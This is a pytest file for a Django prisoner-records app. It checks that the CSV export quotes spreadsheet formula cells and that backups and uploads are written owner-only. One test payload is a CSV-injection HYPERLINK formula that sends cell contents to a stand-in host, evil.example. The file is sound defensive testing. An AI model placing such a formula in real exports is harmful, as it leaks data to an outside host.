"""What the app writes for others to open: CSV no spreadsheet runs, backups and uploads only their owner reads."""

import csv
import io
import os
import stat
from contextlib import contextmanager

import pytest
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.core.management import call_command

from prisoners import presentation
from prisoners.import_jobs import ImportJob
from prisoners.imports import cases_file_check, import_job_create, import_job_status
from prisoners.presentation import spreadsheet_safe
from tests.prisoners.factories import PersonFactory
from tests.sources.factories import DocumentFactory

pytestmark = pytest.mark.django_db
FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]
TEXT_COLUMNS = ["name", "name_be", "name_ru", "region", "occupation"]


@contextmanager
def umask(mask):
    previous = os.umask(mask)
    try:
        yield
    finally:
        os.umask(previous)


def mode(path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


def csv_rows(client) -> dict[str, dict[str, str]]:
    """The public CSV download, parsed, keyed by each row's profile URL."""
    body = b"".join(client.get("/prisoners/export.csv").streaming_content).decode()
    header, *rows = csv.reader(io.StringIO(body))
    return {row[header.index("url")]: dict(zip(header, row, strict=True)) for row in rows}


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
def test_csv_cells_a_spreadsheet_would_run_as_formulas_start_with_a_quote(client, start):
    formula = f'{start}HYPERLINK("https://evil.example/?"&A1,"open")'
    PersonFactory(display_name=formula, name_be=formula, name_ru=formula, occupation=formula, region=f"{start}SUM(1)")
    harmless = PersonFactory(display_name="Ales Bialiatski", occupation="human rights defender", region="homel")

    rows = list(csv_rows(client).values())

    (row,) = [row for row in rows if row["name"] != harmless.display_name]
    assert {column: row[column] for column in TEXT_COLUMNS} == {
        "name": f"'{formula}",
        "name_be": f"'{formula}",
        "name_ru": f"'{formula}",
        "region": f"'{start}SUM(1)",
        "occupation": f"'{formula}",
    }


def test_csv_cells_that_are_plain_text_are_unchanged(client):
    PersonFactory(display_name="Ales Bialiatski", name_be="Алесь Бяляцкі", occupation="human rights defender")

    (row,) = csv_rows(client).values()

    assert (row["name"], row["name_be"], row["occupation"]) == (
        "Ales Bialiatski",
        "Алесь Бяляцкі",
        "human rights defender",
    )


def test_only_strings_are_neutralised_so_numbers_stay_numbers():
    assert spreadsheet_safe(-3) == -3
    assert spreadsheet_safe("-3") == "'-3"
    assert spreadsheet_safe("a=b") == "a=b"


def test_a_backup_is_readable_by_its_owner_only_whatever_the_umask(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media-root"
    person = PersonFactory()
    person.photo.save("portrait.jpg", ContentFile(b"not really a jpeg"), save=True)
    DocumentFactory()
    backup = tmp_path / "backup"

    with umask(0o000):
        call_command("export_dataset", backup, stdout=io.StringIO())

    directories = [backup, *(path for path in backup.rglob("*") if path.is_dir())]
    files = [path for path in backup.rglob("*") if path.is_file()]
    # Not vacuous: the manifest, the tables, and uploaded files copied in nested media directories.
    assert (backup / "manifest.json") in files and len(directories) > 2
    assert any(path.suffix == ".jpg" for path in files)
    assert {path.relative_to(tmp_path).as_posix(): mode(path) for path in directories} == {
        path.relative_to(tmp_path).as_posix(): 0o700 for path in directories
    }
    assert {path.relative_to(tmp_path).as_posix(): mode(path) for path in files} == {
        path.relative_to(tmp_path).as_posix(): 0o600 for path in files
    }


def test_an_uploaded_import_is_kept_for_its_uploader_only_whatever_the_umask(settings, tmp_path, editor):
    settings.MEDIA_ROOT = tmp_path
    data = b"external_id,name\np-1,Anna\n"
    plan = cases_file_check(acting_user=editor, data=data)

    with umask(0o000):
        job_id = import_job_create(data=data, file_name="cases.csv", user=editor, plan=plan)

    assert import_job_status(job_id)["state"] == "checked"
    # The progress record is a database row now; the upload is the one file, private.
    upload = default_storage.path(ImportJob.objects.get(pk=job_id).upload)
    with open(upload, "rb") as stored:
        assert stored.read() == data
    assert (mode(upload), mode(os.path.dirname(upload))) == (0o600, 0o700)


def test_one_formula_among_many_rows_and_batches_is_still_quoted(client, monkeypatch):
    """The export asks each cell only in a batch whose joined cells show a formula start; every batch is asked."""
    monkeypatch.setattr(presentation, "DOWNLOAD_BATCH", 2)
    harmless = [PersonFactory(display_name=f"Person {number}", occupation="a=b, c-d") for number in range(5)]
    formula = PersonFactory(display_name="-2+3", occupation="teacher")
    PersonFactory(display_name="Person after", occupation="@teacher")

    rows = {row["name"]: row for row in csv_rows(client).values()}

    assert rows["'-2+3"]["occupation"] == "teacher"
    assert rows["Person after"]["occupation"] == "'@teacher"
    assert all(rows[person.display_name]["occupation"] == "a=b, c-d" for person in harmless)
    assert formula.display_name not in rows
